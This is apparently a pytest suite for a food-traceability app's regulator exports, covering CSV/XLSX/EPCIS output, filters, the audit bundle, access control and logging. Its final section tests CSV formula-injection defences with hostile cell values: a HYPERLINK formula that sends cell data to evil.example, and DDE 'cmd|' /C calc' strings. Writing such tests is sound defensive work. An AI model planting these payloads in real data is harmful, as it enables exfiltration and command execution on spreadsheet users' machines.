"""Exports from the regulator's desk (issue 6, items 5 and 6): CSV and XLSX with two header rows (the
columns' names in the reader's language, then their machine keys) and one row per ledger event, every
filter with a near miss just outside it, the EPCIS 2.0 document against the official JSON schema
(tests/data/epcis-json-schema.json), the audit bundle through the offline verifier, who may export
(session or token), 400s that name the field in Chinese and English, and one access-log row per export
and none for a refused one. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tests.factories import (
    count,
    item,
    make_batch,
    make_brand,
    make_brand_owner,
    make_certification,
    make_compliance,
    make_inspection,
    make_license,
    make_org,
    make_user,
    make_world,
)
from traceapp import db
from traceapp.audit.export_filters import ExportFilters
from traceapp.audit.export_formats import bench_export
from traceapp.audit.exports import COLUMNS, EVENT_NAMES, iter_events
from traceapp.audit.models import ExportLog
from traceapp.auth.services import issue_token
from traceapp.ledger import verify
from traceapp.ledger.store import LedgerEntry, begin_snapshot
from traceapp.records.certifications import revoke_certification
from traceapp.records.corrections import correct_batch
from traceapp.records.recalls import recall_batch
from traceapp.records.transfers import transfer_batch

PASSWORD = "password-123"
SCHEMA = Path(__file__).parent / "data" / "epcis-json-schema.json"
EVENT_KINDS = tuple(EVENT_NAMES)
BRAND = "yanling-huangtao"


@pytest.fixture
def world(app):
    """Producer A (炎陵县) with a branded farm lot F, an unbranded lot G, a pooled packed lot P (GTIN and lot)
    made from F and G; a processor B (襄阳市谷城县) making X from P and an unrelated 2025 lot R; inspections
    (F passed, G failed), a 合格证 on F, certificates (A's, and B's revoked), a correction of G, a
    downstream recall of F (F, P, X) and a recall of R alone."""
    with app.app_context(), db.write_session() as s:
        world = make_world(s)
        owner_org, manager = make_brand_owner(s)
        brand = make_brand(s, manager, slug=BRAND)
        a, b = world["producer_org"], world["rival_org"]
        make_license(s, manager, brand, a.id)
        world["reg_ui"] = make_user(s, "regulator", name="reg_ui", password=PASSWORD)
        world["tokens"] = {name: issue_token(s, world[name].username)
                           for name in ("producer", "admin", "regulator", "inspector")}
        producer, rival = world["producer"], world["rival"]
        batches = world["batches"] = {}
        batches["F"] = make_batch(s, producer, brand=BRAND, quantity="1000", harvest_date="2026-08-01")
        batches["G"] = make_batch(s, producer, quantity="500", harvest_date="2026-07-15", pack_date=None)
        s.flush()
        batches["P"] = make_batch(s, producer, quantity="900", harvest_date="2026-08-02", pack_date="2026-08-03",
                                  gtin="06901234567892", lot="YL-2026-08", inputs=[
                                      {"code": batches["F"].code, "quantity": "600"},
                                      {"code": batches["G"].code, "quantity": "300"}])
        s.flush()
        transfer_batch(s, batches["P"], {"to": b.id, "quantity": "800"}, user=producer)
        batches["X"] = make_batch(s, rival, product="黄桃罐头", category="processed", quantity="800",
                                  harvest_date="2026-08-10", pack_date="2026-08-12", origin_region="420625",
                                  base="谷城县加工厂", inputs=[{"code": batches["P"].code, "quantity": "800"}])
        batches["R"] = make_batch(s, rival, product="茶叶", category="tea", quantity="50", harvest_date="2025-09-01",
                                  pack_date=None, origin_region="420625", base="谷城县茶园")
        make_inspection(s, world["inspector"], batches["F"], inspected_on="2026-08-03")
        make_inspection(s, world["inspector"], batches["G"], inspected_on="2026-07-20", verdict="fail",
                        items=[item(value="0.35", verdict="fail")])
        make_compliance(s, producer, batches["F"], issued_on="2026-08-05")
        make_certification(s, world["certifier"], a.id, valid_from="2026-03-01")
        revoked = make_certification(s, world["certifier"], b.id, products=["茶叶"], valid_from="2025-03-01")
        s.flush()
        revoke_certification(s, revoked.id, {"reason": "复查不合格"}, user=world["certifier"])
        correct_batch(s, batches["G"], {"fields": {"quantity": "520"}, "reason": "复秤"}, user=producer)
        recall_batch(s, batches["F"], {"reason": "农残超标", "scope": "downstream"}, user=world["regulator"])
        recall_batch(s, batches["R"], {"reason": "标签错误"}, user=world["regulator"])
        world["codes"] = {name: batch.code for name, batch in batches.items()}
        world["a"], world["b"] = a.id, b.id
        return world


def auth(world, who: str = "regulator", **headers) -> dict:
    return {"Authorization": f"Bearer {world['tokens'][who]}", **headers}


def ledger_events(app) -> list[tuple[int, str, str]]:
    """(seq, kind, subject) of every ledger entry an export covers, counted straight from the ledger."""
    with app.app_context(), db.database().sessions() as s:
        return [tuple(row) for row in s.execute(select(LedgerEntry.seq, LedgerEntry.kind, LedgerEntry.subject)
                                                .where(LedgerEntry.kind.in_(EVENT_KINDS)).order_by(LedgerEntry.seq))]


def export_rows(app) -> int:
    with app.app_context():
        return count(ExportLog)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def events(world, client, **params) -> list[dict]:
    """The CSV export's rows as dicts (field -> value), through the regulator's token."""
    response = client.get("/audit/export", query_string={"format": "csv", **params}, headers=auth(world))
    rows = read_csv(response)
    return [dict(zip([c[0] for c in COLUMNS], row, strict=True)) for row in rows[2:]]


def names(world, rows: list[dict]) -> set[str]:
    by_code = {code: name for name, code in world["codes"].items()}
    return {by_code[row["batch"]] for row in rows if row["batch"]}


def log_in(client, username: str = "reg_ui") -> None:
    page = client.get("/login")
    token = re.search(r'id="csrf_token" name="csrf_token" type="hidden" value="([^"]+)"', page.text).group(1)
    response = client.post("/login", data={"csrf_token": token, "username": username, "password": PASSWORD})
    assert response.status_code == 302


# -- spreadsheets -------------------------------------------------------------------------------------

SEQ, EVENT, EVENT_NAME, PRODUCT = (KEYS := [c[0] for c in COLUMNS]).index("seq"), KEYS.index("event"), \
    KEYS.index("event_name"), KEYS.index("product")


def test_csv_has_headers_in_the_readers_language_then_keys_and_exactly_one_row_per_ledger_event(app, world, client):
    rows = read_csv(client.get("/audit/export?format=csv", headers=auth(world)))
    assert rows[0] == [c[1] for c in COLUMNS] and rows[0][:4] == ["事件日期", "记录时间", "记录时间（UTC，ISO 8601）",
                                                                   "账本序号"]
    assert rows[1] == KEYS and rows[1][SEQ] == "seq"
    english = read_csv(client.get("/audit/export?format=csv&lang=en", headers=auth(world)))
    assert english[0] == [c[2] for c in COLUMNS] and english[0][SEQ] == "Ledger seq" and english[1] == KEYS
    expected = ledger_events(app)
    body = rows[2:]
    assert len(body) == len(expected) == 17
    assert sorted(int(r[SEQ]) for r in body) == [seq for seq, _k, _s in expected]
    assert {(int(r[SEQ]), r[EVENT]) for r in body} == {(seq, kind) for seq, kind, _s in expected}
    keys = [(r[0], int(r[SEQ])) for r in body]
    assert keys == sorted(keys)  # by event date, then seq


def test_each_row_carries_the_key_data_elements(app, world, client):
    rows = events(world, client)
    code = world["codes"]
    registered = {r["batch"]: r for r in rows if r["event"] == "batch.registered"}
    f = registered[code["F"]]
    assert (f["event_date"], f["product"], f["quantity"], f["unit"], f["brand"], f["brand_name"]) == (
        "2026-08-01", "黄桃", "1000", "kg", BRAND, "炎陵黄桃")
    assert (f["region"], f["region_name"], f["base"], f["harvest_date"]) == (
        "430225", "湖南省株洲市炎陵县", "鹿原镇九龙村基地", "2026-08-01")
    assert f["producer"] == "producer组织" and len(f["uscc"]) == 18 and f["actor"] == f"user:{world['producer'].id}"
    assert f["event_name"] == "批次登记" and f["recorded_at"].endswith("Z")
    p = registered[code["P"]]
    assert (p["gtin"], p["lot"], p["pack_date"]) == ("06901234567892", "YL-2026-08", "2026-08-03")
    assert p["inputs"] == "; ".join(sorted([f"{code['F']} 600 kg", f"{code['G']} 300 kg"]))
    failed = next(r for r in rows if r["event"] == "inspection.recorded" and r["batch"] == code["G"])
    assert (failed["doc_type"], failed["status"], failed["event_date"]) == ("inspection_report", "fail", "2026-07-20")
    assert failed["doc_number"].startswith("ZZJC-2026-") and "0.35" in failed["reason"]
    revoked = next(r for r in rows if r["event"] == "certification.revoked")
    assert (revoked["status"], revoked["reason"], revoked["producer"]) == ("revoked", "复查不合格", "rival组织")
    assert revoked["doc_type"] == "certificate:green_food" and revoked["product"] == "茶叶"
    licence = next(r for r in rows if r["event"] == "brand.licensed")
    assert (licence["brand"], licence["quantity"], licence["unit"], licence["event_date"]) == (
        BRAND, "50000", "kg", "2026-01-01")
    correction = next(r for r in rows if r["event"] == "batch.corrected")
    assert correction["quantity"] == "520" and '"previous": {"quantity": "500"}' in correction["changes"]
    assert correction["reason"] == "复秤; 数量: 500 → 520"
    recall = next(r for r in rows if r["event"] == "batch.recalled" and r["batch"] == code["X"])
    assert (recall["doc_number"], recall["status"], recall["reason"]) == (
        code["F"], "recalled (downstream)", "农残超标")
    assert recall["actor"] == f"user:{world['regulator'].id}"


def test_xlsx_opens_with_openpyxl_and_has_one_row_per_event(app, world, client):
    from openpyxl import load_workbook

    response = client.get("/audit/export?format=xlsx&lang=en", headers=auth(world))
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith('attachment; filename="traceapp-events-all-')
    sheet = load_workbook(io.BytesIO(response.data), read_only=True).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == [c[2] for c in COLUMNS] and rows[1] == KEYS  # ?lang=en
    expected = ledger_events(app)
    assert len(rows) - 2 == len(expected)
    assert sorted(r[SEQ] for r in rows[2:]) == [seq for seq, _k, _s in expected]
    assert {r[EVENT_NAME] for r in rows[2:] if r[EVENT] == "batch.registered"} == {"Batch registered"}


def test_iter_events_streams_in_small_chunks_with_the_same_rows(app, world):
    with app.app_context(), db.database().sessions() as s:
        begin_snapshot(s)
        whole = list(iter_events(s, ExportFilters()))
        chunked = list(iter_events(s, ExportFilters(), chunk=3))
    assert chunked == whole and len(whole) == len(ledger_events(app))
    with app.test_request_context(), db.database().sessions() as s:
        out = io.BytesIO()
        assert bench_export(s, "csv", out) == len(whole)
    assert len(out.getvalue().decode("utf-8-sig").splitlines()) == len(whole) + 2
    with app.test_request_context(), db.database().sessions() as s:
        out = io.BytesIO()
        assert bench_export(s, "epcis", out) == 12  # 5 registrations, 2 inspections, 1 合格证, 4 recalls
    assert len(json.loads(out.getvalue())["epcisBody"]["eventList"]) == 12


# -- filters --------------------------------------------------------------------------------------------

def test_brand_filter_keeps_the_brand_and_its_licensees_and_drops_the_near_miss(world, client):
    rows = events(world, client, brand=BRAND)
    assert names(world, rows) == {"F"}  # P, pooled by the same producer, claims no brand
    kinds = {r["event"] for r in rows}
    assert {"batch.registered", "inspection.recorded", "compliance_certificate.issued", "batch.recalled",
            "brand.licensed", "certification.issued"} <= kinds
    assert all(r["producer_id"] == str(world["a"]) for r in rows)
    assert "certification.revoked" not in kinds  # B's certificate: B holds no licence of the brand


def test_producer_filter_keeps_one_producer(world, client):
    a = events(world, client, producer=str(world["a"]))
    b = events(world, client, producer=str(world["b"]))
    assert names(world, a) == {"F", "G", "P"} and names(world, b) == {"X", "R"}
    assert {r["producer_id"] for r in a} == {str(world["a"])}
    assert "certification.revoked" in {r["event"] for r in b}
    assert len(a) + len(b) == len(events(world, client))  # every event here belongs to A or B


def test_region_filter_contains_counties_of_a_province_or_city(world, client):
    hunan = events(world, client, region="430000")
    zhuzhou = events(world, client, region="430200")
    county = events(world, client, region="430225")
    assert names(world, hunan) == names(world, zhuzhou) == names(world, county) == {"F", "G", "P"}
    assert hunan == zhuzhou == county
    hubei = events(world, client, region="420000")
    assert names(world, hubei) == {"X", "R"}
    assert events(world, client, region="430100") == []  # 长沙市: the near miss next door


def test_date_range_is_inclusive_on_the_event_date(world, client):
    rows = events(world, client, **{"from": "2026-08-01", "to": "2026-08-03"})
    assert {(r["event"], r["event_date"]) for r in rows} == {
        ("batch.registered", "2026-08-01"), ("batch.registered", "2026-08-02"),
        ("inspection.recorded", "2026-08-03")}
    assert all("2026-08-01" <= r["event_date"] <= "2026-08-03" for r in rows)
    day_before = events(world, client, **{"from": "2026-07-31", "to": "2026-07-31"})
    assert day_before == []
    only_2025 = events(world, client, to="2025-12-31")
    assert sorted((r["event"], r["batch"]) for r in only_2025) == [
        ("batch.registered", world["codes"]["R"]), ("certification.issued", "")]


def test_recall_filter_keeps_the_batches_recalled_together_and_their_events(world, client):
    rows = events(world, client, recall=world["codes"]["F"].lower())
    assert names(world, rows) == {"F", "P", "X"}
    assert sum(r["event"] == "batch.recalled" for r in rows) == 3
    assert {"batch.registered", "inspection.recorded", "compliance_certificate.issued"} <= {r["event"] for r in rows}
    assert not any(r["event"].startswith(("certification.", "brand.")) for r in rows)
    assert names(world, events(world, client, recall=world["codes"]["R"])) == {"R"}


def test_filters_combine(world, client):
    rows = events(world, client, producer=str(world["a"]), **{"from": "2026-07-01", "to": "2026-07-31"})
    assert {(r["event"], r["event_date"]) for r in rows} == {
        ("batch.registered", "2026-07-15"), ("inspection.recorded", "2026-07-20")}


# -- EPCIS ------------------------------------------------------------------------------------------------

def epcis_validator():
    from jsonschema import Draft7Validator, FormatChecker

    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    Draft7Validator.check_schema(schema)
    # Every $ref is local ("#/definitions/…"): nothing is fetched.
    assert not re.search(r'"\$ref": "(?!#)', SCHEMA.read_text(encoding="utf-8"))
    return Draft7Validator(schema, format_checker=FormatChecker())


def test_epcis_document_validates_against_the_epcis_2_schema(app, world, client):
    response = client.get("/audit/export?format=epcis", headers=auth(world))
    assert response.status_code == 200 and response.mimetype == "application/ld+json"
    document = json.loads(response.data)
    errors = sorted(epcis_validator().iter_errors(document), key=lambda e: list(e.path))
    assert errors == [], [f"{list(e.path)}: {e.message}" for e in errors[:5]]
    assert document["type"] == "EPCISDocument" and document["schemaVersion"] == "2.0"
    found = document["epcisBody"]["eventList"]
    code = world["codes"]
    by = {(e["type"], e.get("bizStep"), e.get("disposition")) for e in found}
    assert ("ObjectEvent", "commissioning", "active") in by
    assert ("TransformationEvent", "commissioning", "active") in by
    assert ("ObjectEvent", "inspecting", "conformant") in by and ("ObjectEvent", "inspecting", "non_conformant") in by
    assert ("ObjectEvent", "holding", "recalled") in by
    pooled = next(e for e in found if e["type"] == "TransformationEvent"
                  and e["outputQuantityList"][0]["epcClass"].endswith("/10/YL-2026-08"))
    assert pooled["outputQuantityList"] == [{"epcClass": "https://id.gs1.org/01/06901234567892/10/YL-2026-08",
                                             "uom": "KGM", "quantity": 900}]
    assert {q["epcClass"] for q in pooled["inputQuantityList"]} == {
        f"http://traceapp.test/t/{code['F']}", f"http://traceapp.test/t/{code['G']}"}
    commissioned = next(e for e in found if e.get("action") == "ADD"
                        and e["quantityList"][0]["epcClass"].endswith(code["R"]))
    assert commissioned["ilmd"]["traceapp:harvestDate"] == "2025-09-01"
    assert commissioned["eventTimeZoneOffset"] == "+08:00"
    recalled = [e for e in found if e.get("disposition") == "recalled"]
    assert len(recalled) == 4 and len({e["eventID"] for e in found}) == len(found)
    seqs = {seq for seq, kind, _s in ledger_events(app) if kind in (
        "batch.registered", "inspection.recorded", "compliance_certificate.issued", "batch.recalled")}
    assert {e["traceapp:ledgerSeq"] for e in found} == seqs


def test_the_schema_rejects_a_broken_document(app, world, client):
    document = json.loads(client.get("/audit/export?format=epcis", headers=auth(world)).data)
    event = document["epcisBody"]["eventList"][0]
    event["eventTimeZoneOffset"] = "+8"
    del event["action" if "action" in event else "type"]
    assert list(epcis_validator().iter_errors(document))


# -- the audit bundle ----------------------------------------------------------------------------------

def test_bundle_zip_passes_the_offline_verifier_with_its_instructions(app, world, client, tmp_path):
    saved = client.get("/ledger/checkpoint").text
    key = client.get("/ledger/key").text
    response = client.get("/audit/export?format=bundle&brand=" + BRAND, headers=auth(world))
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert re.match(r'attachment; filename="traceapp-ledger-bundle-\d{8}T\d{6}Z\.zip"',
                    response.headers["Content-Disposition"])
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert set(archive.namelist()) == {"traceapp-ledger-bundle.jsonl", "README-使用说明.txt"}
    readme = archive.read("README-使用说明.txt").decode("utf-8")
    assert "python -m traceapp.ledger.verify traceapp-ledger-bundle.jsonl --key KEY --checkpoint FILE" in readme
    assert "不会缩小审计包" in readme and "do not narrow the bundle" in readme and key in readme
    archive.extractall(tmp_path)
    (tmp_path / "key.txt").write_text(key, encoding="utf-8")
    (tmp_path / "saved.txt").write_text(saved, encoding="utf-8")
    bundle = str(tmp_path / "traceapp-ledger-bundle.jsonl")
    assert verify.main([bundle, "--key", str(tmp_path / "key.txt"), "--checkpoint", str(tmp_path / "saved.txt")]) == 0
    lines = (tmp_path / "traceapp-ledger-bundle.jsonl").read_bytes().splitlines()
    with app.app_context():
        assert sum(line.startswith(b'{"type":"entry"') for line in lines) == count(LedgerEntry)
    # A damaged bundle fails: the verifier really checks what the zip holds.
    damaged = tmp_path / "damaged.jsonl"
    damaged.write_bytes(b"\n".join(lines[:-1] + [lines[-1].replace(b'"ts":"2', b'"ts":"1')]) + b"\n")
    assert verify.main([str(damaged), "--key", str(tmp_path / "key.txt")]) == 1
    with app.app_context(), db.database().sessions() as s:
        logged = s.scalars(select(ExportLog)).one()
    assert (logged.format, logged.status, logged.rows, logged.bytes) == (
        "bundle", "complete", count_entries(app), len(response.data))
    assert json.loads(logged.filters) == {"brand": BRAND}


def count_entries(app) -> int:
    with app.app_context():
        return count(LedgerEntry)


# -- who may export -------------------------------------------------------------------------------------

def test_a_regulator_token_exports_and_a_producer_token_gets_403_writing_nothing(app, world, client):
    assert client.get("/audit/export?format=csv", headers=auth(world, "admin")).status_code == 200
    refused = client.get("/audit/export?format=csv", headers=auth(world, "producer", **{"Accept-Language": "en"}))
    assert refused.status_code == 403
    assert refused.json["error"]["code"] == "forbidden" and "regulator" in refused.json["error"]["message"]
    inspector = client.get("/audit/export?format=bundle", headers=auth(world, "inspector"))
    assert inspector.status_code == 403
    anonymous = client.get("/audit/export?format=csv")
    assert anonymous.status_code == 401 and "API 令牌" in anonymous.text
    bad_token = client.get("/audit/export?format=csv", headers={"Authorization": "Bearer nope"})
    assert bad_token.status_code == 401 and bad_token.json["error"]["code"] == "unauthorized"
    assert bad_token.headers["WWW-Authenticate"].startswith("Bearer")
    with app.app_context(), db.database().sessions() as s:
        assert [(r.username, r.via, r.role) for r in s.scalars(select(ExportLog))] == [
            (world["admin"].username, "token", "admin")]


@pytest.mark.parametrize(("params", "field", "zh", "en"), [
    ({"format": "pdf"}, "format", "csv、xlsx、epcis 或 bundle", "csv, xlsx, epcis or bundle"),
    ({}, "format", "格式（format）", "Format (format)"),
    ({"format": "csv", "brand": "No Such!"}, "brand", "拼音标识", "pinyin identifier"),
    ({"format": "csv", "brand": "no-such-brand"}, "brand", "没有拼音标识为 no-such-brand 的品牌", "no brand"),
    ({"format": "csv", "producer": "abc"}, "producer", "正整数", "positive whole number"),
    ({"format": "csv", "producer": "999999"}, "producer", "没有编号为 999999 的组织", "no organization"),
    ({"format": "csv", "region": "43"}, "region", "必须是 6 位数字", "6 digits"),
    ({"format": "csv", "region": "999999"}, "region", "不是已知的行政区划", "not a known"),
    ({"format": "csv", "from": "2026-13-01"}, "from", "YYYY-MM-DD", "YYYY-MM-DD"),
    ({"format": "xlsx", "to": "yesterday"}, "to", "YYYY-MM-DD", "YYYY-MM-DD"),
    ({"format": "csv", "from": "2026-09-01", "to": "2026-08-01"}, "from", "不能晚于", "after"),
    ({"format": "epcis", "recall": "??"}, "recall", "批次码", "batch code"),
    ({"format": "csv", "recall": "23456789ABCDE"}, "recall", "没有批次码为 23456789ABCDE 的批次", "no batch"),
])
def test_bad_filters_get_400_naming_the_field_in_chinese_and_english_and_log_nothing(
        app, world, client, params, field, zh, en):
    chinese = client.get("/audit/export", query_string=params, headers=auth(world))
    english = client.get("/audit/export", query_string={**params, "lang": "en"}, headers=auth(world))
    for response, words in ((chinese, zh), (english, en)):
        assert response.status_code == 400
        error = response.json["error"]
        assert error["code"] == "invalid_field" and list(error["fields"]) == [field]
        assert field in error["message"] and words in error["message"], error["message"]
    assert not re.search(r"[\u4e00-\u9fff]", english.json["error"]["message"].replace(
        params.get("brand", ""), "")), english.json["error"]["message"]
    assert export_rows(app) == 0


def test_a_batch_that_started_no_recall_is_refused_as_recall(app, world, client):
    response = client.get("/audit/export", query_string={"format": "csv", "recall": world["codes"]["P"]},
                          headers=auth(world))
    assert response.status_code == 400 and "recall" in response.json["error"]["fields"]
    assert export_rows(app) == 0


# -- the desk page and the access log ---------------------------------------------------------------------

def test_the_export_page_is_linked_from_the_desk_and_lists_every_export(app, world, client):
    log_in(client)
    desk = client.get("/audit/").text
    assert 'href="/audit/exports"' in desk
    page = client.get("/audit/exports")
    assert page.status_code == 200 and "还没有导出记录" in page.text
    assert 'action="/audit/export"' in page.text and 'value="xlsx"' in page.text
    csv_download = client.get("/audit/export", query_string={"format": "csv", "producer": str(world["a"])})
    assert csv_download.status_code == 200 and len(read_csv(csv_download)) > 2
    epcis = client.get("/audit/export?format=epcis", headers=auth(world))
    assert epcis.status_code == 200 and json.loads(epcis.data)["type"] == "EPCISDocument"
    with app.app_context(), db.database().sessions() as s:
        logged = list(s.scalars(select(ExportLog).order_by(ExportLog.id)))
    assert [(r.username, r.via, r.format, r.status) for r in logged] == [
        ("reg_ui", "session", "csv", "complete"), (world["regulator"].username, "token", "epcis", "complete")]
    assert logged[0].rows == len(read_csv(csv_download)) - 2 and logged[0].bytes == len(csv_download.data)
    assert json.loads(logged[0].filters) == {"producer": world["a"]}
    page = client.get("/audit/exports?lang=en").text
    assert "reg_ui" in page and "Producer: producer组织" in page and "Completed" in page


def test_a_bad_filter_from_the_form_shows_the_form_with_the_error(app, world, client):
    log_in(client)
    response = client.get("/audit/export", query_string={"format": "csv", "region": "12"})
    assert response.status_code == 400
    assert 'id="e-region"' in response.text and "行政区划代码必须是 6 位数字" in response.text
    assert export_rows(app) == 0


def test_producers_and_visitors_do_not_get_the_export_page(app, world, client):
    assert client.get("/audit/exports").status_code == 302
    with app.app_context(), db.write_session() as s:
        make_user(s, "producer", world["a"], name="farmer", password=PASSWORD)
    log_in(client, "farmer")
    assert client.get("/audit/exports").status_code == 403
    assert client.get("/audit/export?format=csv").status_code == 403
    assert export_rows(app) == 0


def test_an_export_interrupted_by_the_client_is_logged_as_aborted(app, world, client):
    response = client.get("/audit/export?format=csv", headers=auth(world), buffered=False)
    iterator = iter(response.response)
    next(iterator)
    response.close()
    with app.app_context(), db.database().sessions() as s:
        assert s.scalar(select(func.count()).select_from(ExportLog).where(ExportLog.status == "aborted")) == 1


def test_nothing_to_export_still_gives_the_headers(app, client):
    with app.app_context(), db.write_session() as s:
        make_user(s, "regulator", name="lonely", password=None)
        token = issue_token(s, "lonely")
        make_org(s)
    rows = read_csv(client.get("/audit/export?format=csv", headers={"Authorization": f"Bearer {token}"}))
    assert len(rows) == 2


# -- formula injection (OWASP "CSV Injection") ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def hostile(app):
    """A producer's batch whose product is a spreadsheet formula and whose base starts with "+", recalled
    with a reason that starts with "@" and corrected with one that starts with "-"; plus a regulator."""
    with app.app_context(), db.write_session() as s:
        world = make_world(s)
        batch = make_batch(s, world["producer"], product=FORMULA, base="+1+cmd|' /C calc'!A0")
        s.flush()
        correct_batch(s, batch, {"fields": {"quantity": "520"}, "reason": "-2+3+cmd|' /C calc'!A0"},
                      user=world["producer"])
        recall_batch(s, batch, {"reason": "@SUM(1+1)*cmd|' /C calc'!A0"}, user=world["regulator"])
        return {"code": batch.code, "token": issue_token(s, world["regulator"].username)}


def test_csv_cells_that_would_start_a_formula_are_prefixed_with_a_quote(hostile, client):
    response = client.get("/audit/export?format=csv", headers={"Authorization": f"Bearer {hostile['token']}"})
    rows = [dict(zip([c[0] for c in COLUMNS], row, strict=True)) for row in read_csv(response)[2:]]
    registered = next(r for r in rows if r["event"] == "batch.registered" and r["batch"] == hostile["code"])
    assert registered["product"] == "'" + FORMULA
    assert registered["base"] == "'+1+cmd|' /C calc'!A0"
    correction = next(r for r in rows if r["event"] == "batch.corrected")
    assert correction["product"] == "'" + FORMULA
    recall = next(r for r in rows if r["event"] == "batch.recalled")
    assert recall["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    cells = [cell for row in read_csv(response) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert registered["harvest_date"] == "2026-08-01" and registered["unit"] == "kg"  # the rest as it was


def test_xlsx_keeps_formula_text_as_an_inline_string_never_a_formula(hostile, client):
    from openpyxl import load_workbook

    response = client.get("/audit/export?format=xlsx", headers={"Authorization": f"Bearer {hostile['token']}"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell holds a formula
    sheet = load_workbook(io.BytesIO(response.data)).active  # not read-only: cells keep their data type
    products = [row[PRODUCT] for row in sheet.iter_rows(min_row=3)]
    formula = [cell for cell in products if cell.value == FORMULA]
    assert formula and all(cell.data_type == "s" for cell in formula)  # the exact text, as text


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_formula_trigger_that_opens_a_cell_is_escaped(value):
    from traceapp.audit.export_formats import csv_safe

    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["黄桃", "2026-08-01", "1250.5", "a=b", "", None, 7, -1, "'=already quoted"])
def test_cells_that_start_no_formula_are_left_alone(value):
    from traceapp.audit.export_formats import csv_safe

    assert csv_safe(value) == value
